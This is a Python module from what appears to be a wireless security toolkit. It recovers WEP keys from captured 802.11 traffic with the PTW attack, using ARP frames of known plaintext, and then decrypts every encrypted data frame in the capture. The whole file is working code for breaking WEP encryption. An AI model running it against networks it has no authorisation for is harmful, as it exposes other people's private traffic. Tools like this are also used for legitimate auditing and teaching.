"""Whole-capture key recovery and decryption."""

from __future__ import annotations

from typing import Iterable, List, Optional, Sequence

from ..captureio import FLAG_DECRYPTED, CaptureRecord
from ..linkproto import dot11
from .ptw import InsufficientSamples, NotFoundWithinBudget, ptw_crack
from .wep import IcvMismatch, WepFrame, WepKey, recover_keystream, wep_decrypt

ARP_CIPHERTEXT_LEN = dot11.ARP_PLAINTEXT_LEN + 4
VERIFY_FRAMES = 100


class NoArpTemplateMatch(LookupError):
    pass


def _protected_frames(capture: Iterable[CaptureRecord]):
    for rec in capture:
        if rec.decrypted:
            continue
        try:
            frame = dot11.parse_dot11(rec.frame)
        except dot11.MalformedFrame:
            continue
        if frame.is_data and frame.protected and frame.src is not None:
            try:
                yield frame, WepFrame.from_bytes(frame.body)
            except ValueError:
                continue


def arp_samples(capture: Iterable[CaptureRecord]) -> list:
    """(IV, keystream) pairs from ARP-sized frames, one per distinct IV."""
    samples = {}
    for frame, wep in _protected_frames(capture):
        if len(wep.ciphertext) != ARP_CIPHERTEXT_LEN or wep.iv in samples:
            continue
        op = dot11.ARP_REQUEST if frame.dst == dot11.BROADCAST else dot11.ARP_REPLY
        known = dot11.arp_known_prefix(op, frame.src)
        samples[wep.iv] = recover_keystream(wep, known)
    return sorted(samples.items())


def verify_on_capture(key: WepKey, frames: Sequence[WepFrame], count: int = VERIFY_FRAMES) -> bool:
    if not frames:
        return False
    step = max(1, len(frames) // count)
    picked = frames[::step][:count]
    for wep in picked:
        try:
            wep_decrypt(key, wep)
        except IcvMismatch:
            return False
    return True


def crack_session(
    capture: Iterable[CaptureRecord],
    key_lengths: Sequence[int] = (5, 13),
    budget: Optional[int] = None,
) -> WepKey:
    capture = list(capture)
    frames = [wep for _, wep in _protected_frames(capture)]
    if not frames:
        raise InsufficientSamples("capture holds no encrypted data frames")
    samples = arp_samples(capture)
    if not samples:
        raise NoArpTemplateMatch("no ARP-sized frames to derive keystream from")
    for key_len in key_lengths:
        try:
            candidates = ptw_crack(samples, key_len, budget=budget)
        except NotFoundWithinBudget:
            continue
        for key in candidates:
            if verify_on_capture(key, frames):
                return key
    raise InsufficientSamples(f"key not recovered from {len(samples)} ARP samples")


def decrypt_record(rec: CaptureRecord, key: WepKey) -> CaptureRecord:
    """Plaintext copy of one record, flagged; records that do not decrypt come back unchanged."""
    if rec.decrypted:
        return rec
    try:
        frame = dot11.parse_dot11(rec.frame)
    except dot11.MalformedFrame:
        return rec
    if not (frame.is_data and frame.protected):
        return rec
    try:
        plain = wep_decrypt(key, WepFrame.from_bytes(frame.body))
    except (IcvMismatch, ValueError):
        return rec
    header = bytes((rec.frame[0], rec.frame[1] & ~dot11.FLAG_PROTECTED)) + rec.frame[2 : dot11.DATA_HEADER_LEN]
    return CaptureRecord(rec.ts_us, rec.channel, header + plain, rec.flags | FLAG_DECRYPTED)


def decrypt_capture(capture: Iterable[CaptureRecord], key: WepKey) -> List[CaptureRecord]:
    return [decrypt_record(rec, key) for rec in capture]
